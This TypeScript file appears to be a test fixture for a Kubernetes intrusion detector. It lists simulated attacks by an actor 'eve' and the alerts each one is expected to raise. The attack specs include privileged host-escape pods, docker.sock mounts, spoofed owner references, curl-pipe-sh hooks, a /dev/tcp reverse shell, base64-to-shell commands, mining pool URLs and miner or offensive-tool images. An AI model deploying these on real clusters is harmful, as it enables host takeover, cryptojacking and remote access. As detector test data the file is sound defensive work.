import { http } from '../http.ts';
import { binding, managedBy, node, object, ownedBy, pod, podSpec, rule, workload } from '../objects.ts';
import { account as sa, hour, minute } from '../world.ts';
import { hostPath, role, type Attack } from './trace.ts';

const image = (name: string): Attack => [
  `the image ${name}`,
  (world) => world.write('eve', pod('shop/x', podSpec(name))),
  ['miner-or-tool'],
  'eve',
];
const runs = (title: string, command: readonly string[]): Attack => [
  `a workload that runs ${title}`,
  (world) => world.write('eve', workload('Deployment', 'shop/x', podSpec('docker.io/library/alpine', {}, { command }))),
  ['miner-or-tool'],
  'eve',
];

/** Attacks through pods and workloads. */
export const workloadsAttacks: readonly Attack[] = [
  [
    'bad pod everything-allowed',
    (world) =>
      world.write(
        'eve',
        pod(
          'default/everything',
          podSpec(
            'ubuntu',
            { hostNetwork: true, hostPID: true, hostIPC: true, ...hostPath('/') },
            { securityContext: { privileged: true } },
          ),
        ),
      ),
    ['host-takeover-pod:critical', 'new-host-access'],
    'eve',
  ],
  [
    'bad pod priv+hostpid',
    (world) => world.write('eve', pod('default/x', podSpec('ubuntu', { hostPID: true }, { securityContext: { privileged: true } }))),
    ['host-takeover-pod'],
    'eve',
  ],
  [
    'bad pod priv',
    (world) => world.write('eve', pod('default/x', podSpec('ubuntu', {}, { securityContext: { privileged: true } }))),
    ['new-host-access:high'],
    'eve',
  ],
  ['bad pod hostpath', (world) => world.write('eve', pod('default/x', podSpec('ubuntu', hostPath('/')))), ['host-takeover-pod'], 'eve'],
  [
    'bad pod hostpid',
    (world) => world.write('eve', pod('default/x', podSpec('ubuntu', { hostPID: true }))),
    ['new-host-access:high'],
    'eve',
  ],
  [
    'bad pod hostnetwork',
    (world) => world.write('eve', pod('default/x', podSpec('ubuntu', { hostNetwork: true }))),
    ['new-host-access'],
    'eve',
  ],
  ['bad pod hostipc', (world) => world.write('eve', pod('default/x', podSpec('ubuntu', { hostIPC: true }))), ['new-host-access'], 'eve'],
  [
    'docker.sock',
    (world) => world.write('eve', pod('default/x', podSpec('ubuntu', hostPath('/var/run/docker.sock')))),
    ['new-host-access:high'],
    'eve',
  ],
  ['hostpath /..', (world) => world.write('eve', pod('default/x', podSpec('ubuntu', hostPath('/tmp/../')))), ['host-takeover-pod'], 'eve'],
  [
    'hostpath /mnt root disk /var/lib',
    (world) => world.write('eve', pod('default/x', podSpec('ubuntu', hostPath('/var/lib')))),
    ['new-host-access'],
    'eve',
  ],
  ['hostpath /opt', (world) => world.write('eve', pod('default/x', podSpec('ubuntu', hostPath('/opt')))), ['new-host-access'], 'eve'],
  [
    'local PV with hostPath is not seen; daemonset does',
    (world) =>
      world.write(
        'eve',
        workload(
          'DaemonSet',
          'kube-system/kube-proxi',
          podSpec('ubuntu', { hostPID: true, ...hostPath('/') }, { securityContext: { privileged: true } }),
        ),
      ),
    ['daemonset-by-new-actor', 'system-namespace-newcomer:high', 'new-host-access'],
    'eve',
  ],
  [
    'takeover pod with fake owner',
    (world) => {
      world.found(workload('ReplicaSet', 'shop/web-5d4f8c7b9', podSpec('web')));
      world.write(
        'eve',
        pod('shop/web-5d4f8c7b9-zzzzz', podSpec('ubuntu', { hostPID: true, ...hostPath('/') }, { securityContext: { privileged: true } }), {
          metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9'),
        }),
      );
    },
    ['host-takeover-pod', 'new-host-access'],
    'eve',
  ],
  [
    'miner pod with fake owner',
    (world) => {
      world.found(workload('ReplicaSet', 'shop/web-5d4f8c7b9', podSpec('web')));
      world.write('eve', pod('shop/web-5d4f8c7b9-zzzzz', podSpec('xmrig/xmrig'), { metadata: ownedBy('ReplicaSet', 'web-5d4f8c7b9') }));
    },
    ['miner-or-tool'],
    'eve',
  ],
  [
    'takeover pod owned by a ConfigMap',
    (world) =>
      world.write(
        'eve',
        pod('shop/x', podSpec('ubuntu', hostPath('/')), {
          metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'kube-root-ca.crt', uid: 'u', controller: true }] },
        }),
      ),
    ['host-takeover-pod'],
    'eve',
  ],
  [
    'replicaset with fake deployment owner',
    (world) => {
      world.found(workload('Deployment', 'shop/web', podSpec('web')));
      world.write(
        'eve',
        workload('ReplicaSet', 'shop/web-66', podSpec('ubuntu', hostPath('/etc')), { metadata: ownedBy('Deployment', 'web') }),
      );
    },
    ['new-host-access'],
    'eve',
  ],
  [
    'account switched',
    (world) => {
      world.found(
        role('r', [rule('get list', 'secrets')]),
        object('ServiceAccount', 'shop/powerful', {}, { creationTimestamp: '2026-01-01T00:00:00Z' }),
        binding('ClusterRoleBinding', 'b', 'ClusterRole/r', ['ServiceAccount/shop/powerful']),
      );
      world.write('eve', pod('shop/x', podSpec('ubuntu', { serviceAccountName: 'powerful' })));
    },
    ['account-switched'],
    'eve',
  ],
  [
    'workload patched: postStart',
    (world) => {
      world.found(workload('Deployment', 'shop/web', podSpec('web'), { metadata: managedBy('argocd-controller') }));
      world.write(
        'eve',
        workload(
          'Deployment',
          'shop/web',
          podSpec('web', {}, { lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl http://x/a|sh'] } } } }),
        ),
      );
    },
    ['changed-by-new-actor', 'miner-or-tool'],
    'eve',
  ],
  [
    'workload patched: probe',
    (world) => {
      world.found(workload('Deployment', 'shop/web', podSpec('web'), { metadata: managedBy('argocd-controller') }));
      world.write(
        'eve',
        workload('Deployment', 'shop/web', podSpec('web', {}, { livenessProbe: { exec: { command: ['sh', '-c', 'id'] } } })),
      );
    },
    ['changed-by-new-actor'],
    'eve',
  ],
  [
    'workload patched: env LD_PRELOAD',
    (world) => {
      world.found(workload('Deployment', 'shop/web', podSpec('web'), { metadata: managedBy('argocd-controller') }));
      world.write('eve', workload('Deployment', 'shop/web', podSpec('web', {}, { env: [{ name: 'LD_PRELOAD', value: '/x.so' }] })));
    },
    ['changed-by-new-actor'],
    'eve',
  ],
  [
    'workload patched with fieldManager argocd',
    (world) => {
      world.found(workload('Deployment', 'shop/web', podSpec('web'), { metadata: managedBy('argocd-controller') }));
      world.write(
        'eve',
        workload('Deployment', 'shop/web', podSpec('evil'), { metadata: managedBy('argocd-controller', '2026-11-02T09:00:00Z') }),
        { agent: 'argocd-application-controller/v2' },
      );
    },
    ['changed-by-new-actor'],
    'eve',
  ],
  [
    'no-op dry-run by argocd hides nobody',
    (world) => {
      const argo = sa('argocd', 'argocd-application-controller');
      world.usually(() => http(world, argo, 'GET /apis/apps/v1/deployments'));
      world.write(argo, workload('Deployment', 'shop/web', podSpec('web'), { metadata: managedBy('argocd-controller') }));
      world.wait(hour);
      http(world, 'eve', 'PATCH /apis/apps/v1/namespaces/shop/deployments/web?fieldManager=argocd-controller');
      http(world, argo, 'PATCH /apis/apps/v1/namespaces/shop/deployments/web?dryRun=All&fieldManager=argocd-controller');
      world.now -= 2000;
      world.write(undefined, workload('Deployment', 'shop/web', podSpec('evil'), { metadata: managedBy('argocd-controller') }));
      world.wait(minute);
    },
    ['changed-by-new-actor'],
    'eve',
  ],
  ['cronjob', (world) => world.write('eve', workload('CronJob', 'shop/x', podSpec('busybox'))), ['job-by-new-actor'], 'eve'],
  [
    'kubectl create job --from as a person',
    (world) => {
      world.found(workload('CronJob', 'shop/backup', podSpec('busybox')));
      world.write(
        'eve',
        workload('Job', 'shop/manual-1', podSpec('busybox', {}, { command: ['sh', '-c', 'x'] }), {
          metadata: ownedBy('CronJob', 'backup'),
        }),
      );
    },
    ['job-by-new-actor'],
    'eve',
  ],
  image('xmrig/xmrig:latest'),
  image('docker.io/minergate/minergate-cli'),
  image('cyberark/kubeletctl'),
  image('metasploitframework/metasploit-framework'),
  image('cdkteam/cdk'),
  image('bustakube/alpine-peirates'),
  image('aquasec/kube-hunter'),
  image('kalilinux/kali-rolling'),
  image('quay.io/quarkslab/kdigger'),
  image('metal3d/xmrig'),
  image('r.j3ss.co/amicontained'),
  image('patsissons/xmrig'),
  image('ghcr.io/x/teamredminer'),
  image('docker.io/pmietlicki/monero-miner'),
  runs('stratum', ['/app', '-o', 'stratum+tcp://xmr.pool.minergate.com:45700', '-u', 'x']),
  runs('curl sh', ['sh', '-c', 'apk add curl && curl -s http://x/a.sh | sh']),
  runs('pool url', ['./m', '--url', 'xmr-eu1.nanopool.org:14444']),
  runs('2miners', ['./m', '-o', 'rvn.2miners.com:6060']),
  runs('moneroocean', ['./m', '-o', 'gulf.moneroocean.stream:10128']),
  runs('reverse shell', ['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/4 0>&1']),
  runs('base64', ['sh', '-c', 'echo aaaa|base64 -d|sh']),
  [
    'pod env pool',
    (world) =>
      world.write('eve', workload('Deployment', 'shop/x', podSpec('alpine', {}, { env: [{ name: 'POOL', value: 'stratum+tcp://a:1' }] }))),
    ['miner-or-tool'],
    'eve',
  ],
  ['kube-public pod', (world) => world.write('eve', pod('kube-public/x', podSpec('busybox'))), ['system-namespace-newcomer'], 'eve'],
  [
    'static pod',
    (world) => {
      world.found(node('node-a', '10.0.0.1'));
      world.write(
        'system:node:node-a',
        pod('kube-system/evil-node-a', podSpec('busybox', { nodeName: 'node-a' }), {
          metadata: { annotations: { 'kubernetes.io/config.mirror': 'x' }, ...ownedBy('Node', 'node-a') },
        }),
      );
    },
    ['static-pod'],
  ],
];
